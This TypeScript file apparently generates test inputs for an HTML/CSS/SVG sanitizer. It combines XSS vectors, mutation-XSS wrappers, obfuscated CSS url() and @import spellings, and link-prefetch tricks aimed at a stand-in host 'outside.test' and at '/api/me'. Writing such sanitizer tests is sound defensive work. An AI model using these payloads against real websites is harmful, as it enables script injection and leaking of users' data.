import type { Payload } from './payload.ts'

const range = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, i) => from + i)
const odd = [
  ...range(0, 0x1f),
  ...range(0x7f, 0x9f),
  0xa0,
  0xad,
  0x2028,
  0x2029,
  0xfeff,
  0xfffe,
  0xffff,
  0xfdd0,
  0xd800,
  0xdfff,
  0x1ffff,
].map((code) => String.fromCodePoint(code))
const out = 'http://outside.test'

/** A character that somebody may drop, where it keeps a text from being what it is without it. */
const spoiled = (c: string): string[] => [
  `</sty${c}le><img src=${out}/s onerror=ran(0)><link rel=preconnect href=${out}>`,
  `<${c}/style></style${c}><script>ran(0)</script><${c}img src=x onerror=ran(0)>`,
  `</tit${c}le></text${c}area></x${c}mp></noscr${c}ipt><svg onload=ran(0)>`,
  `b{background:u${c}rl(${out}/u)}i{background:url(${c}${out}/v)}`,
  `@im${c}port "//outside.test/i.css";@${c}import url(/api/me);b{background:url("${c}/api/me")}`,
  `java${c}script:ran(0)`,
  `${c}javascript:ran(0)//"${c}onload=ran(0) onfocus${c}=ran(0) autofocus`,
  `${c}//outside.test/${c}p 2x, ${out}/${c}q`,
]

const answers = [
  'var(--x)',
  'env(x,"/api/me")',
  '--f("/api/me")',
  'attr(title type(<string>))',
  'if(else:"/api/me")',
  'inherit(--x)',
  'first-valid("/api/me")',
]
const takers = [
  'image-set(? 1x)',
  '-webkit-image-set(? 1x)',
  'image(?)',
  'src(?)',
  'url(?)',
  'cross-fade(image-set(?),red)',
  'linear-gradient(red,?)',
  'paint(?)',
  'element(?)',
]
const properties = [
  'background',
  'border-image',
  'mask',
  'list-style',
  'content',
  'cursor',
  'shape-outside',
  'filter',
  'clip-path',
  '--y',
]
const spellings = [
  'url(@)',
  'URL("@")',
  "u\\72l('@')",
  '\\75 rl(@)',
  '\\000075\\000072\\00006c(@)',
  'url(\\\n@)',
  'url(/**/@)',
  'url( @ )',
  'url("@" crossorigin(use-credentials))',
  'image-set("@" 1x)',
  'image-set("@" type("image/png"))',
  'src("@")',
  'image("@")',
  '-webkit-cross-fade(url(@),url(@),50%)',
  'url("@"',
  'image-set(url(@)',
]
const targets = [
  '/api/me',
  '../../../api/me',
  '//outside.test/a',
  `${out}/b`,
  'https:outside.test/c',
  '\\\\outside.test\\d',
  'leak.png',
  '?leak',
  'ftp://outside.test/e',
  'ws://outside.test/f',
  'blob:http://outside.test/g',
  'filesystem:http://outside.test/h',
  'data:text/html,<script>ran(0)</script>',
  '#x',
]

function ofCss(): string[] {
  const uses = takers.flatMap((taker) => answers.map((answer) => taker.replace('?', answer)))
  return [
    ...uses.map(
      (use, i) =>
        `@function --f(--p){result:"/api/me"}@property --x{syntax:"*";inherits:true;initial-value:"/api/me"}:root{--x:"//outside.test/x"}b{${properties[i % properties.length]}:${use}}`,
    ),
    ...uses.map((use) => `:root{--x:"/api/me";--y:${use}}b{background:var(--y)}`),
    ...spellings.flatMap((spelling) =>
      targets.map(
        (target, i) =>
          `b{${properties[i % properties.length]}:${spelling.replaceAll('@', target)}}`,
      ),
    ),
    ...targets.flatMap((target) => [
      `@import "${target}";`,
      `@import url(${target}) layer(a) supports(display:grid) screen;`,
      `@\\69mport '${target}';`,
      `@charset "utf-8";@layer x";@import '${target}';",y;`,
      `@layer a/*;@import '${target}';*/;`,
      `<!--@import "${target}";-->`,
      `@namespace x url(${target});x|b{background:url(${target})}`,
      `@font-face{font-family:f;src:url(${target}) format("woff2"),url("${target}") tech(variations)}b{font-family:f}`,
      `@font-face{font-family:g;src:src("${target}")}b{font:9px g}`,
      `@counter-style c{system:cyclic;symbols:url(${target})}li{list-style:c}`,
      `@media print{}@supports (background:url(${target})){b{background:url(${target})}}`,
      `@container style(--x:url(${target})){b{background:url(${target})}}`,
      `@property --p{syntax:"<url>";inherits:false;initial-value:url(${target})}b{background:var(--p)}`,
      `@keyframes k{to{background:url(${target})}}b{animation:k 9s}`,
      `@starting-style{b{background:url(${target})}}@scope(b){:scope{background:url(${target})}}`,
      `b{&:hover{background:url(${target})}@media screen{background:url(${target})}}`,
      `b{behavior:url(${target});-moz-binding:url(${target}#x);offset-path:url(${target}#p)}`,
      `b::before{content:url(${target}) / "x"}b::marker{content:"${target}"}`,
      `@function --g(){result:url(${target})}b{background:--g()}`,
      `@view-transition{navigation:auto}::view-transition-old(root){background:url(${target})}`,
    ]),
  ]
}

const links = [
  'preconnect',
  'dns-prefetch',
  'prefetch',
  'preload',
  'modulepreload',
  'stylesheet',
  'manifest',
  'icon',
  'prerender',
  'next',
  'import',
  'pingback',
  'search',
  'alternate stylesheet',
  'stylesheet preconnect',
  'stylesheet dns-prefetch',
  'STYLESHEET\u000bpreload',
  'compression-dictionary',
  'expect',
  'amphtml',
  'canonical',
  'apple-touch-icon',
  'mask-icon',
  'preconnect stylesheet',
  'stylesheet modulepreload',
  'stylesheet manifest',
]
const wrappers = [
  '@',
  '<svg>@</svg>',
  '<math><mtext>@</mtext></math>',
  '<svg><foreignObject>@</foreignObject></svg>',
  '<math><annotation-xml encoding="text/html">@</annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml">@</annotation-xml></math>',
  '<svg><desc>@</desc></svg>',
  '<template>@</template>',
  '<div><template shadowrootmode="open">@</template></div>',
  '<noscript>@</noscript>',
  '<table>@</table>',
  '<select><option>@</select>',
  '<svg><title><style>@</style></title></svg>',
  '<form><math><mtext></form><form><mglyph><style></math>@',
  '<math><mi><table><mi><mglyph><style><!--</style><img title="-->@">',
  '<details open>@</details>',
  '<dialog open>@</dialog>',
  '<div popover id=p>@</div><button popovertarget=p autofocus>x</button>',
]
const cores = (t: string) => [
  `<img src="${t}" onerror=ran(0)>`,
  `<script src="${t}"></script><script>ran(0)</script>`,
  `<iframe src="${t}" srcdoc="&lt;script&gt;parent.ran(0)&lt;/script&gt;"></iframe>`,
  `<a href="${t}" ping="${t}" attributionsrc="${t}" target=_top id=click>x</a>`,
  `<form action="${t}" id=f><input name=parentNode><button formaction="${t}" command=show-modal commandfor=f>x</button></form>`,
  `<object data="${t}"></object><embed src="${t}"><applet code="${t}"></applet><portal src="${t}"></portal><fencedframe src="${t}"></fencedframe>`,
  `<base href="${t}"><img src=leak.png><meta http-equiv=refresh content="0;url=${t}">`,
  `<style>@import "${t}";b{background:url(${t})}</style><b>x</b>`,
  `<svg><use href="${t}#a"/><use xlink:href="${t}#a"/><image href="${t}"/><feImage href="${t}"/><script href="${t}"/></svg>`,
  `<svg><a><animate attributeName=href values="${t}"/><set attributeName="xlink:href" to="${t}"/><text y=9>x</text></a></svg>`,
  `<svg xml:base="${t}"><image href="leak.png"/><linearGradient href="${t}#g"/><mpath href="${t}#m"/><textPath href="${t}#t"/><pattern href="${t}#p"/></svg>`,
  `<video src="${t}" poster="${t}" autoplay><source src="${t}"><track src="${t}" default></video><audio src="${t}" autoplay></audio>`,
  `<input type=image src="${t}"><body background="${t}"><table background="${t}"><td background="${t}">x`,
  `<picture><source srcset="${t} 1x"><img srcset="${t} 2x" src="${t}" sizes=1px></picture>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${t}"]}],"prerender":[{"urls":["${t}"]}]}</script><script type=importmap>{"imports":{"x":"${t}"}}</script>`,
  `<img name=documentElement src=x><form name=body><img name=querySelectorAll></form><iframe name=defaultView srcdoc="<base href='${t}'><img src=leak>"></iframe>`,
]

function ofHtml(): string[] {
  const javascript = 'javascript:ran(0)'
  return [
    ...links.flatMap((rel) =>
      targets
        .slice(0, 5)
        .map(
          (target) =>
            `<link rel="${rel}" href="${target}" as=image imagesrcset="${target} 1x" crossorigin><b>x</b>`,
        ),
    ),
    ...wrappers.flatMap((wrapper) =>
      [...cores(`${out}/w`), ...cores(javascript)].map((core) => wrapper.replace('@', () => core)),
    ),
    ...targets.flatMap((target) => cores(target)),
    ...cores('data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran(0)"/>'),
  ]
}

const drawings = (t: string): string[] => [
  `<style>@import "${t}";*{fill:url(${t}#a)}</style><rect width="9" height="9"/>`,
  `<script href="${t}">ran(0)</script><handler>ran(0)</handler>`,
  `<image href="${t}" onload="ran(0)" width="9" height="9"/>`,
  `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${t}"/></foreignObject>`,
  `<rect fill="url(${t}#a)" filter="url('${t}#f')" mask="u\\72l(${t}#m)" clip-path="url(${t}#c)" cursor="url(${t}),auto" style="marker:url(${t}#x)"/>`,
  `<a href="${t}"><set attributeName="href" to="${t}" begin="0s"/><text y="9" id="click">x</text></a>`,
  `<animate attributeName="fill" values="url(${t}#a);red" dur="1s"/>`,
]

/** Payloads that are made, not collected: characters, names, spellings and places, all with all. */
export function generatedPayloads(): Payload[] {
  const named = (kind: Payload['kind'], what: string, texts: readonly string[]): Payload[] =>
    texts.map((text, index) => ({ name: `${what} ${index}`, kind, text }))
  return [
    ...named('text', 'odd character', odd.flatMap(spoiled)),
    ...named('css', 'made sheet', ofCss()),
    ...named('html', 'made markup', ofHtml()),
    ...named('svg', 'made drawing', [...targets, 'javascript:ran(0)'].flatMap(drawings)),
  ]
}
